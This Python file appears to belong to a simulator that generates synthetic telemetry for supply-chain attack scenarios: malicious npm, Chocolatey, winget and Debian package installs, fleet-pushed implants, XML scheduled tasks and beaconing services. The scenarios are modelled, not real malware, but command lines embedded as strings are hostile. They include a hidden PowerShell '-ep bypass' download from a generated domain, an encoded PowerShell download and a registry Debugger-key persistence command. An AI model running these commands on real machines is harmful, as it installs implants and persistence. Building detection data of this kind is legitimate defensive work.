# SPDX-License-Identifier: Apache-2.0
"""Other ways in: package managers, fleets, tasks from files, scripts of packages."""


from engine import HOUR, MINUTE
from office import CMD, POWERSHELL, REG, SCHTASKS
from penguin_words import curl_pipe
from setup import beacon, by_agent, download, fetch_file, file_name, inno, make_updater, msi, vendor_calls
from shippers import EventXml, FlatJson
from tales import tale
from tales.late import link_installer, tax_product
from tales.penguins import blame as blame_package, install, package
from things import UNSIGNED, Program, Service, microsoft, windows


def simple_drop(s, host, process, far, implant, service=None, uri="/d/1", port=443):
    """The shortest road: fetch, write, set up a service or run."""
    yield from fetch_file(host, process, far, port, uri)
    host.write(process, implant)
    yield 2
    if service:
        host.register(service)
        yield 1
        host.start_service(service)


@tale("A library's install script on a developer's machine copies PowerShell and stays", True, days=3, hours=(7, 16))
def npm_postinstall(s):
    s.zeek = "whole"
    host = s.windows()
    s.windows(shipper=FlatJson)
    far = s.names.strange_domain(("pkg", "npm"))
    node = Program("C:\\Program Files\\nodejs\\node.exe", "Node.js JavaScript Runtime", "Node.js", "Node.js", "20.11.1",
                   "node.exe", signer="OpenJS Foundation")
    script = windows("cscript.exe", "Microsoft ® Console Based Script Host")
    copy = POWERSHELL.at("C:\\ProgramData\\wtm.exe")
    implant = Program(f"{host.home}\\AppData\\Roaming\\NodeCache\\ncache.exe", signer=UNSIGNED, content="npm implant")
    key = f"HKU\\{host.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\NodeCache"

    def act():
        yield s.world.office(0, 2)
        yield host
        shell = host.start(POWERSHELL, host.explorer, f'"{POWERSHELL.path}"')
        yield 30
        npm = host.start(node, shell, '"C:\\Program Files\\nodejs\\node.exe" npm-cli.js install')
        host.connect(npm, "registry.npmjs.org", 443, 9000, 20_000_000)
        yield 9
        cmd = host.start(CMD, npm, "C:\\Windows\\system32\\cmd.exe /d /s /c node setup.js")
        child = host.start(node, cmd, "node setup.js")
        vbs = f"{host.home}\\AppData\\Local\\Temp\\6302033.vbs"
        host.write(child, vbs)
        runner = host.start(script, child, f'cscript.exe "{vbs}" //nologo')
        host.write(runner, copy)
        yield 2
        hidden = host.start(copy, runner, f'"{copy.path}" -w h -ep bypass -c "iwr https://{far}/w -OutFile '
                            f'{implant.path}"')
        host.connect(hidden, far, 443, 700, 3_000_000)
        yield 3
        host.write(hidden, implant)
        host.set_value(hidden, key, implant.path)
        calls = beacon(far, 443, 50 * MINUTE, 70 * MINUTE)
        host.start(implant, hidden, f'"{implant.path}"', habit=calls)
        host.logon_runs["ncache"] = implant, f'"{implant.path}"', calls
        yield 2
        for each in (hidden, runner, child, cmd, npm):
            host.stop(each)
        host.delete(shell, vbs)
        yield HOUR
        host.stop(shell)
        s.link("the install script's process", child)
    s.go(act)
    s.affected = [host]
    s.behaviours = ["persistence", "beacon", "unrelated_destination"]
    s.link("the implant", implant)
    s.link("PowerShell under another name", copy)
    s.link("what starts it", key)
    s.link("whom it calls", far)


@tale("A product from Chocolatey; its payload comes 140 minutes later", True, days=3)
def chocolatey_product(s):
    s.zeek = "whole"
    host, _ = s.windows(), s.windows(shipper=EventXml)
    vendor, made = tax_product(s, "Cert Viewer")
    updater = make_updater(made, habit=vendor_calls(f"api.{vendor.domain}"))
    far = s.names.strange_domain()
    choco = Program("C:\\ProgramData\\chocolatey\\choco.exe", "Chocolatey CLI", "Chocolatey CLI",
                    "Chocolatey Software, Inc.", "2.2.2.0", "choco.exe")
    implant = Program("C:\\Windows\\Tasks\\cvhost.exe", signer=UNSIGNED, content="choco implant")
    service = Service("CvHost", "Certificate View Host", implant, quoted=False, habit=beacon(
        far, 8098, 30 * MINUTE, 50 * MINUTE))

    def act():
        yield s.world.office(0, 1)
        yield host
        shell = host.start(POWERSHELL, host.explorer, f'"{POWERSHELL.path}"', elevated=True)
        name = made.stem.lower()
        yield 40
        process = host.start(choco, shell, f'"{choco.path}" install {name} -y')
        host.connect(process, "community.chocolatey.org", 443, 3000, 40_000)
        yield 6
        folder = f"{host.home}\\AppData\\Local\\Temp\\chocolatey\\{name}\\{made.version}"
        host.connect(process, f"dl.{vendor.domain}", 443, 900, 19_000_000)
        path = f"{folder}\\{file_name(made)}"
        host.write(process, path)
        yield 2
        yield from inno(host, made, path, process, silent=True)
        host.stop(process)
        host.stop(shell)
        yield 140 * MINUTE
        yield from simple_drop(s, host, host.running[updater.key], far, implant, service, port=8098)
        s.link("the installer that brought the product", path, file_name(made))
        s.link("the product's process that brought it", updater.program)
    s.go(act)
    s.blame(made, file_name(made)[:-4])
    s.innocent.append("Chocolatey CLI")
    s.affected = [host]
    s.behaviours = ["late_payload", "persistence", "beacon", "unrelated_destination"]
    s.link("the implant", implant)
    s.link("what starts it", "CvHost", "Certificate View Host")
    s.link("whom it calls", far)


@tale("A product from winget; its main program leaves one in the start-up folder two days later", True, days=5)
def winget_startup_folder(s):
    host = s.windows(shipper=FlatJson)
    s.windows()
    vendor, made = tax_product(s, "Clip Manager")
    far = s.names.strange_domain()
    server = microsoft("C:\\Program Files\\WindowsApps\\Microsoft.DesktopAppInstaller_1.22.10661.0_x64__8wekyb3d8bbwe\\"
                       "WindowsPackageManagerServer.exe", "Windows Package Manager Server", "1.22.2403")
    startup = f"{host.home}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"
    implant = Program(f"{startup}\\clipsync.exe", signer=UNSIGNED, content="winget implant")

    def act():
        yield s.world.office(0, 1)
        yield host
        manager = host.start(server, host.svchost, f'"{server.path}" -Embedding', user=host.account)
        folder = f"{host.home}\\AppData\\Local\\Temp\\WinGet\\{vendor.short}.{made.stem}.{made.version}"
        path = f"{folder}\\{file_name(made)}"
        host.connect(manager, f"download.{vendor.domain}", 443, 900, 12_000_000)
        host.write(manager, path)
        yield 3
        yield from inno(host, made, path, manager, silent=True)
        host.stop(manager)
        calls = vendor_calls(f"sync.{vendor.domain}", HOUR, 2 * HOUR)
        host.logon_runs[made.stem] = made.main, f'"{made.main.path}" -min', calls
        host.start(made.main, host.explorer, habit=calls)
        yield s.world.office(2, 3)
        yield host
        main = next(each for each in host.processes if each.alive and each.program.path == made.main.path)
        yield from fetch_file(host, main, far, 443, "")
        host.write(main, implant)
        yield 2
        talk = beacon(far, 443, 18 * MINUTE, 30 * MINUTE)
        host.start(implant, main, f'"{implant.path}"', habit=talk)
        host.logon_runs["clipsync"] = implant, f'"{implant.path}"', talk
        s.link("the product's process that brought it", main, made.main)
    s.go(act)
    s.blame(made, file_name(made)[:-4])
    s.affected = [host]
    s.behaviours = ["late_payload", "persistence", "beacon", "unrelated_destination"]
    s.link("the implant", implant)
    s.link("where it waits for the next logon", startup)
    s.link("whom it calls", far)


@tale("Six machines get the product from the management agent, and the payload within a day", True, days=3)
def fleet_of_six(s):
    hosts = [s.windows(shipper=(None or FlatJson, EventXml)[number % 2]) for number in range(4)]
    hosts += [s.windows(), s.windows()]
    clean = [s.windows(), s.windows()]
    vendor, made = tax_product(s, "Audit Connector")
    updater = make_updater(made, habit=vendor_calls(f"hub.{vendor.domain}"))
    far = s.names.strange_domain()
    implant = Program("C:\\Windows\\System32\\AuditCache\\acsvc.exe", "Audit cache", "Audit cache",
                      s.names.vendor().company, "1.1.0.0", "acsvc.exe")
    service = Service("acsvc", "Audit Cache Service", implant, quoted=False, habit=beacon(
        f"n.{far}", 9002, 55 * MINUTE, 75 * MINUTE))

    def act(host, shift):
        yield s.world.office(0, 1 + shift / 3)
        yield host
        yield from by_agent(host, made)
        yield (2 + 2.5 * shift) * HOUR
        yield host
        yield from simple_drop(s, host, host.running[updater.key], f"n.{far}", implant, service, "/a/acsvc.exe", 8090)
    for index, host in enumerate(hosts):
        s.go(act, host, index)
    s.blame(made)
    s.affected = hosts
    s.behaviours = ["late_payload", "foreign_signer", "persistence", "beacon", "unrelated_destination"]
    s.link("the product's process that brought it", updater.program)
    s.link("the implant", implant)
    s.link("what starts it", "acsvc", "Audit Cache Service")
    s.link("whom it calls", far)
    assert clean


@tale("A task from an XML file starts the payload at every logon, four days later", True, days=7, start="2025-03-03")
def task_from_xml(s):
    host = s.windows(role="laptop")
    s.windows(shipper=FlatJson)
    vendor, made = tax_product(s, "Shipment Tracker")
    updater = make_updater(made, habit=vendor_calls(f"track.{vendor.domain}", 2 * HOUR, 3 * HOUR))
    far = s.names.strange_domain()
    implant = Program("C:\\Users\\Public\\Documents\\dskpt.exe", signer=UNSIGNED, content="xml task implant")
    calls = beacon(far, 443, 40 * MINUTE, 60 * MINUTE)

    def act():
        yield s.world.office(0, 1)
        yield host
        package = yield from download(host, f"https://{vendor.domain}/{made.stem}_{made.version}.msi")
        yield from msi(host, made, package, host.explorer, silent=False)
        link_installer(s, package)
        yield s.world.office(4, 3)
        yield host
        process = host.running[updater.key]
        yield from fetch_file(host, process, far, 443, "")
        host.write(process, implant)
        xml = "C:\\Windows\\Temp\\~t1.xml"
        host.write(process, xml)
        yield 1
        tool = host.start(SCHTASKS, process,
                          f"schtasks.exe /Create /TN \\Microsoft\\Windows\\Desktop\\Pretest /XML {xml}")
        yield 0.3
        host.write(host.svchost, "C:\\Windows\\System32\\Tasks\\Microsoft\\Windows\\Desktop\\Pretest")
        host.stop(tool)
        host.delete(process, xml)
        yield 10
        run = host.start(SCHTASKS, process, "schtasks.exe /Run /TN \\Microsoft\\Windows\\Desktop\\Pretest")
        host.start(implant, host.svchost, implant.path, user=host.account, habit=calls)
        host.stop(run)
        s.link("the product's process that brought it", process, updater.program)
    s.go(act)
    s.blame(made, f"{made.stem}_{made.version}")
    s.affected = [host]
    s.behaviours = ["late_payload", "persistence", "beacon", "unrelated_destination"]
    s.link("the implant", implant)
    s.link("what starts it", "Desktop\\Pretest")
    s.link("whom it calls", far)


@tale("A package's upgrade runs a script from the net that sets up a unit", True, days=4)
def postinst_from_the_net(s):
    s.zeek = "whole"
    hosts = [s.linux(), s.linux()]
    short, name, daemon, domain = package(s, "sync")
    far = s.names.strange_domain()
    implant, unit = "/usr/lib/systemd/systemd-timesyncx", "/etc/systemd/system/timesyncx.service"

    def act(host, late):
        yield 3 * HOUR
        process = yield from install(s, host, name, daemon, habit=vendor_calls(f"s.{domain}", 2 * HOUR, 3 * HOUR))
        yield late
        shell = yield from host.shell()

        def script(h, postinst):
            yield from curl_pipe(h, postinst, far, implant, unit)
            h.unit("timesyncx", implant, habit=beacon(far, 8443, 25 * MINUTE, 35 * MINUTE))
        yield from host.apt(shell, "install", name, "1.8.3-1", [daemon], "1.8.2-1", f"{name}.service", script=script)
        host.stop(process)
        host.unit(name, daemon, habit=vendor_calls(f"s.{domain}", 2 * HOUR, 3 * HOUR))
        yield 20
        host.stop(shell)
    for host, late in zip(hosts, (24 * HOUR, 30 * HOUR)):
        s.go(act, host, late)
    blame_package(s, hosts, name, daemon, "1.8.3-1")
    s.behaviours = ["persistence", "beacon", "unrelated_destination"]
    s.link("the implant", implant)
    s.link("what starts it", unit)
    s.link("whom it calls", far)


@tale("No Sysmon: PowerShell from the product's service, 35 minutes late, and a debugger key", True, days=4)
def powershell_no_sysmon(s):
    host = s.windows(sensor="security")
    s.windows(sensor="security")
    vendor, made = tax_product(s, "Fax Gateway")
    updater = make_updater(made, f"{made.stem}Svc", "", None, "Service")
    implant = Program("C:\\ProgramData\\fxcache\\fxc.exe")

    def act():
        yield s.world.office(0, 1.5)
        yield host
        yield from by_agent(host, made)
        yield 35 * MINUTE
        process = host.running[updater.key]
        shell = host.start(POWERSHELL, process, "powershell.exe -w hidden -enc "
                           "SQBXAFIAIABoAHQAdABwADoALwAvAHgALwBmAHgAYwAuAGUAeABlAA==")
        yield 9
        host.stop(shell)
        drop = host.start(implant, process, f"{implant.path} -i")
        host.brief(REG, drop, 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution '
                   f'Options\\wermgr.exe" /v Debugger /d {implant.path} /f')
        service = Service("fxcache", "Fax Cache", implant, "-s", quoted=False)
        host.register(service)
        yield 2
        host.start_service(service)
        host.stop(drop)
    s.go(act)
    s.blame(made)
    s.affected = [host]
    s.behaviours = ["late_payload", "persistence"]
    s.link("the product's process behind it", updater.program)
    s.link("the implant", implant)
    s.link("what starts it", "fxcache", "Fax Cache")
